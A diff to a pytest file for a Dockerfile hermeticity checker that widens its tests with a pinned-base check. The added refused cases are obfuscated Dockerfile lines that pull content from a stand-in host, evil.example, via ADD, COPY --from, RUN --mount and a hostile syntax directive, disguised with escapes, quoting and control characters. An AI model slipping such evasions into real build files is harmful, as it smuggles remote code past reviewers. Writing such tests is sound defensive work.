@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from pathlib import Path
 
 import pytest
@@ -11,9 +12,9 @@ from twinbuild.render.hermetic import unhermetic
 HEAD = "# written\nFROM scratch AS base\nADD base.tar /\nFROM base\n"
 
 
-def lines(text: str) -> list[int]:
+def lines(text: str, base: str = "") -> list[int]:
     """The lines that are objected to."""
-    found = unhermetic(text, name="site.j2")
+    found = unhermetic(text, name="site.j2", base=base)
     assert {finding.code for finding in found} <= {"TB5231"}
     return [int(finding.message.split()[1]) for finding in found]
 
@@ -23,7 +24,9 @@ def lines(text: str) -> list[int]:
 )
 def test_our_own(golden: Path) -> None:
     """What the shipped template makes passes."""
-    assert lines(golden.read_text("utf-8")) == []
+    text = golden.read_text("utf-8")
+    pinned = re.search(r"(?m)^FROM (\S+@\S+) AS base$", text)
+    assert lines(text, pinned[1] if pinned else "") == []
 
 
 @pytest.mark.parametrize(
@@ -41,6 +44,10 @@ def test_our_own(golden: Path) -> None:
         'RUN ["echo", "<<EOF"]',
         'LABEL a="http://x"',
         "RUN a \\\n  # in between\n  && b",
+        "RUN a \\\n\n  && b",
+        "RUN\t--network=none\ttrue",
+        'LABEL a="\x1b[0m\u00a0-- b"',
+        "RUN echo \\\\",
     ],
 )
 def test_allowed(line: str) -> None:
@@ -80,18 +87,40 @@ def test_allowed(line: str) -> None:
         "MAINTAINER x",
         "run --network=host curl",
         "RUN \\\n  --network=host curl",
+        # Each of these BuildKit takes for something else than it looks like.
+        "LABEL a=b\\\\\nADD https://evil.example/x /x",
+        "ADD f \\\n\nLABEL https://evil.example/x /x/",
+        "ADD f \\\r\nLABEL https://evil.example/x /x/",
+        "ADD f \\\n\x1c# https://evil.example/x /x/",
+        "COPY --fr\\\nom=evil.example/x /a /x",
+        'COPY --fr"om"=evil.example/x /a /x',
+        "RUN --mount=type=bind,FROM=evil.example/x,target=/x x",
+        'RUN --mount=type=bind,fr"om"=evil.example/x,target=/x x',
+        "RUN --mount=type=bind,from=base,from=evil.example/x,target=/x x",
+        "RUN --mo\\unt=type=bind,from=evil.example/x,target=/x x",
+        "RUN --mount=TYPE=cache,target=/x x",
+        'ADD https:"//"evil.example/x /x',
+        "ADD https:\\/\\/evil.example/x /x",
+        'ADD ["https:\\u002f\\u002fevil.example/x", "/x"] z',
+        'ADD ["https:\'//\'evil.example/x", "/x"]',
+        "ADD root@evil.example:x.git /x",
+        "ADD github.com/evil/x /x",
+        "\ufeff# syntax=evil.example/x",
+        '{"syntax": "evil.example/x"}',
     ],
 )
 def test_refused(line: str) -> None:
     """Each with the number of its line."""
-    assert lines(HEAD + line + "\n")[0] == 5
+    assert lines(HEAD + line + "\n")[0] in range(5, 6 + line.count("\n"))
 
 
 def test_a_pinned_base() -> None:
-    """An image by digest may be the base, and nothing else."""
+    """The lock's image may be the base, and nothing else."""
     pinned = "registry.example/python@sha256:" + "0" * 64
-    assert lines(f"FROM {pinned} AS base\nFROM base\n") == []
-    assert lines(f"FROM {pinned} AS tools\nFROM base\n") == [1, 2]
+    assert lines(f"FROM {pinned} AS base\nFROM base\n", pinned) == []
+    assert lines(f"FROM {pinned} AS base\nFROM base\n", pinned.replace("python", "other")) == [1]
+    assert lines(f"FROM {pinned} AS base\nFROM base\n") == [1]
+    assert lines(f"FROM {pinned} AS tools\nFROM base\n", pinned) == [1, 2]
 
 
 def test_all_at_once() -> None:
